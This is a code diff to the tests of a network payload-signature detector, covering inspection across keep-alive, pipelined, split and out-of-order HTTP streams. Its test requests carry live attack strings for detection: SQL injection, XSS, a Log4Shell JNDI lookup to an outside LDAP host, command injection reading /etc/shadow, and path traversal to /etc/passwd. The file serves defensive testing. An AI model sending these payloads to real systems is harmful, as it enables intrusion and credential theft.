@@ -11,9 +11,8 @@ import { PayloadSignatureDetector, type PayloadSignatureConfig } from '../../../
 import { normalise } from '../../../src/engine/detectors/signatures/normalize.js';
 import { BUILTIN_SIGNATURES, compileSignatures, PAYLOAD_ATTACK_TYPES, type PayloadAttackType } from '../../../src/engine/detectors/signatures/patterns.js';
 import { hasNestedQuantifier } from '../../../src/engine/detectors/signatures/regex-safety.js';
-import { FlowTable } from '../../../src/engine/flows/flow-table.js';
 import { CidrSet } from '../../../src/net/cidr-set.js';
-import { tcpPacket } from '../../support/packet-factory.js';
+import { StreamRig } from '../../support/tcp-conversation.js';
 import { FIXTURES } from '../../support/run-cli.js';
 
 const ATTACKER = '10.77.0.1';
@@ -30,23 +29,14 @@ function harness(config: PayloadSignatureConfig = {}, homeNet: CidrSet | null = 
     changed: (a) => changed.push(a),
   };
   const det = new PayloadSignatureDetector(config, ctx);
-  const flows = new FlowTable(1024);
+  const rig = new StreamRig([det], {}, [det], 1024);
   let port = 40000;
-  let ts = 1_700_000_000_000_000;
-  /** One connection: SYN, then the payload as the first data segment. */
+  let next = rig.ts;
+  /** One connection a second after the last: handshake (4 packets 100 µs apart), then the payload as the first data segment. */
   const send = (payload: string | Buffer, opts: { src?: string; dstPort?: number } = {}) => {
-    const src = opts.src ?? ATTACKER;
-    const dstPort = opts.dstPort ?? 80;
-    const srcPort = port++;
-    ts += 1_000_000;
-    for (const [flags, data] of [
-      [TcpFlag.SYN, undefined],
-      [TcpFlag.ACK | TcpFlag.PSH, typeof payload === 'string' ? Buffer.from(payload, 'latin1') : payload],
-    ] as const) {
-      const pkt = tcpPacket(src, VICTIM, { srcPort, dstPort, flags, ...(data ? { payload: data } : {}) }, ts);
-      const slot = flows.update(pkt);
-      det.onPacket(pkt, flows, slot);
-    }
+    next += 1_000_000;
+    rig.ts = next - 400;
+    rig.connection(opts.src ?? ATTACKER, VICTIM, port++, opts.dstPort ?? 80).open().send(payload);
   };
   const get = (target: string, headers: Record<string, string> = {}, opts: { src?: string; dstPort?: number } = {}) => {
     const lines = [`GET ${target} HTTP/1.1`, `Host: ${VICTIM}`];
@@ -54,7 +44,7 @@ function harness(config: PayloadSignatureConfig = {}, homeNet: CidrSet | null = 
     for (const [k, v] of Object.entries(headers)) lines.push(`${k}: ${v}`);
     send(`${lines.join('\r\n')}\r\n\r\n`, opts);
   };
-  return { det, raised, changed, send, get, types: () => raised.map((a) => a.attack_type).sort() };
+  return { det, rig, raised, changed, send, get, types: () => raised.map((a) => a.attack_type).sort() };
 }
 
 /** Types a single request raises on a fresh detector. */
@@ -298,7 +288,7 @@ describe('PayloadSignatureDetector: configuration and pattern safety', () => {
 });
 
 describe('PayloadSignatureDetector: the recorded http-attacks.pcap fixture', () => {
-  test('decodeFrame + FlowTable.update + detector give exactly the manifest alerts', async () => {
+  test('decodeFrame + FlowTable.update + StreamTable + detector give exactly the manifest alerts', async () => {
     const manifest = JSON.parse(readFileSync(`${FIXTURES}manifest.json`, 'utf8')) as { file: string; expect: { alerts?: { attack_type: string; attacker_ip: string }[] } }[];
     const entry = manifest.find((e) => e.file === 'http-attacks.pcap');
     assert.ok(entry?.expect.alerts, 'manifest entry with expect.alerts');
@@ -306,14 +296,14 @@ describe('PayloadSignatureDetector: the recorded http-attacks.pcap fixture', () 
     let updates = 0;
     const ctx: DetectorContext = { interfaceName: 'replay', platformInfo: 'x', homeNet: null, raise: (a) => raised.push(a), changed: () => updates++ };
     const det = new PayloadSignatureDetector({}, ctx);
-    const flows = new FlowTable(4096);
+    const rig = new StreamRig([det], {}, [det]);
     const pkt = new Packet();
     const malformed = new MalformedCounters();
     const source = await openCaptureFile(`${FIXTURES}http-attacks.pcap`);
     const end = await source.start((buf, offset, capLen, wireLen, tsMicros, linkType) => {
       if (decodeFrame(pkt, buf, offset, capLen, wireLen, tsMicros, linkType, malformed) !== DecodeResult.IP) return;
-      const slot = flows.update(pkt);
-      det.onPacket(pkt, flows, slot);
+      rig.feed(pkt);
+      rig.streams.tick(tsMicros);
       det.onTick(tsMicros);
     });
     assert.equal(end.reason, 'eof');
@@ -329,5 +319,95 @@ describe('PayloadSignatureDetector: the recorded http-attacks.pcap fixture', () 
     const byType = Object.fromEntries(raised.map((a) => [a.attack_type, a.attack_details.sample]));
     assert.equal(byType.PATH_TRAVERSAL, 'GET /../../etc/passwd HTTP/1.1');
     assert.equal(byType.SQL_INJECTION, 'GET /?id=1%27%20OR%20%271%27=%271 HTTP/1.1');
+  });
+});
+
+describe('PayloadSignatureDetector: every request of a stream, by named part', () => {
+  const HEAD = `Host: ${VICTIM}\r\nUser-Agent: Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0\r\n`;
+  const get = (target: string, extra = '') => `GET ${target} HTTP/1.1\r\n${HEAD}${extra}\r\n`;
+  const post = (target: string, type: string, body: string) => `POST ${target} HTTP/1.1\r\n${HEAD}Content-Type: ${type}\r\nContent-Length: ${Buffer.byteLength(body, 'latin1')}\r\n\r\n${body}`;
+
+  function conn() {
+    const h = harness();
+    const c = h.rig.connection(ATTACKER, VICTIM, 45000, 8080).open();
+    return { h, c };
+  }
+
+  test('keep-alive: the fifth request on one connection is inspected, with its part and match', () => {
+    const { h, c } = conn();
+    for (let i = 0; i < 4; i++) c.send(get(`/page/${i}.html`)).reply('HTTP/1.1 200 OK\r\nContent-Length: 2\r\n\r\nok');
+    assert.equal(h.raised.length, 0);
+    c.send(get('/item?id=-1%20/*!50000UNION*/%20/*!50000SELECT*/%201,user(),3--'));
+    assert.deepEqual(h.types(), ['SQL_INJECTION']);
+    const d = h.raised[0]!.attack_details;
+    assert.equal(d.matched_part, 'request target');
+    assert.equal(d.sample, 'GET /item?id=-1%20/*!50000UNION*/%20/*!50000SELECT*/%201,user(),3-- HTTP/1.1');
+    assert.match(String(d.matched_normalized), /union\s*select/);
+  });
+
+  test('pipelined requests in one segment: each one is inspected', () => {
+    const { h, c } = conn();
+    c.send(get('/') + get('/?q=<script>alert(1)</script>') + get('/a', `Referer: http://x/?id=1' OR '1'='1\r\n`) + get('/b'));
+    assert.deepEqual(h.types(), ['SQL_INJECTION', 'XSS']);
+    const sqli = h.raised.find((a) => a.attack_type === 'SQL_INJECTION')!;
+    assert.equal(sqli.attack_details.matched_part, 'header Referer');
+    assert.equal(sqli.attack_details.matched_text, "http://x/?id=1' OR '1'='1");
+  });
+
+  test('a request split in 3-byte segments through the attack string still matches', () => {
+    const { h, c } = conn();
+    c.sendSplit(get('/cgi-bin/x', 'X-Api-Version: ${jndi:ldap://10.77.0.1/a}\r\n'), 3);
+    assert.deepEqual(h.types(), ['LOG4SHELL']);
+    assert.equal(h.raised[0]!.attack_details.matched_part, 'header X-Api-Version');
+  });
+
+  test('segments out of order: the request is inspected once the hole is filled', () => {
+    const { h, c } = conn();
+    const req = get('/?id=1%20UNION%20SELECT%20password%20FROM%20users');
+    c.send(req.slice(20), 20); // ahead: held
+    assert.equal(h.raised.length, 0);
+    c.send(req.slice(0, 20), 0);
+    assert.deepEqual(h.types(), ['SQL_INJECTION']);
+  });
+
+  test('POST bodies: form, JSON and multipart fields', () => {
+    const { h, c } = conn();
+    c.send(post('/comment', 'application/x-www-form-urlencoded', 'name=alice&comment=%3Cimg+src%3Dx+onerror%3Dalert(1)%3E'));
+    c.send(post('/api', 'application/json', '{"f":"name\\u0027 UNION SELECT password FROM users--"}'));
+    const boundary = '----x9';
+    const multipart = `--${boundary}\r\nContent-Disposition: form-data; name="host"\r\n\r\n127.0.0.1; cat /etc/shadow\r\n--${boundary}--\r\n`;
+    c.send(post('/upload', `multipart/form-data; boundary=${boundary}`, multipart));
+    // /etc/shadow in the multipart field is a sensitive path as well as a command's argument.
+    assert.deepEqual(h.types(), ['COMMAND_INJECTION', 'PATH_TRAVERSAL', 'SQL_INJECTION', 'XSS']);
+    for (const a of h.raised) assert.equal(a.attack_details.matched_part, 'body', a.attack_type);
+  });
+
+  test('SQL injection and XSS in Cookie and X-Forwarded-For; benign values of the same headers raise nothing', () => {
+    const { h, c } = conn();
+    c.send(get('/docs/', "Referer: http://10.77.0.2/docs/\r\nCookie: session=6f1c2a9e0b7d4c3f; theme=dark\r\nX-Forwarded-For: 192.0.2.10\r\n"));
+    assert.equal(h.raised.length, 0);
+    c.send(get('/', 'Cookie: lang=<script>alert(1)</script>\r\n'));
+    c.send(get('/', "X-Forwarded-For: 10.0.0.1' OR '1'='1\r\n"));
+    assert.deepEqual(h.types(), ['SQL_INJECTION', 'XSS']);
+    assert.equal(h.raised.find((a) => a.attack_type === 'XSS')!.attack_details.matched_part, 'header Cookie');
+    assert.equal(h.raised.find((a) => a.attack_type === 'SQL_INJECTION')!.attack_details.matched_part, 'header X-Forwarded-For');
+  });
+
+  test('values searched once per session: a clean value is remembered, an attack is found every time', () => {
+    const { h, c } = conn();
+    for (let i = 0; i < 30; i++) c.send(get(`/p${i}`, 'Cookie: session=6f1c2a9e; theme=dark\r\n'));
+    assert.ok(h.det.clean.hits >= 29 * 2, `${h.det.clean.hits} remembered`);
+    c.send(get('/', 'X-Api-Version: ${jndi:ldap://x/a}\r\n')).send(get('/', 'X-Api-Version: ${jndi:ldap://x/a}\r\n'));
+    assert.deepEqual(h.types(), ['LOG4SHELL']);
+    assert.equal(h.raised[0]!.attack_details.requests, 2);
+    // A value clean for the types of one header is still searched for the types of another.
+    c.send(get('/', "X-Note: 1' OR '1'='1\r\nReferer: 1' OR '1'='1\r\n"));
+    assert.deepEqual(h.types(), ['LOG4SHELL', 'SQL_INJECTION']);
+  });
+
+  test("hydra's own User-Agent is a scanner's", () => {
+    const { h, c } = conn();
+    c.send(`GET /protected/ HTTP/1.1\r\nHost: ${VICTIM}\r\nUser-Agent: Mozilla/4.0 (Hydra)\r\nAuthorization: Basic YWRtaW46Z3Vlc3M=\r\n\r\n`);
+    assert.deepEqual(h.types(), ['SCANNER_USER_AGENT']);
   });
 });
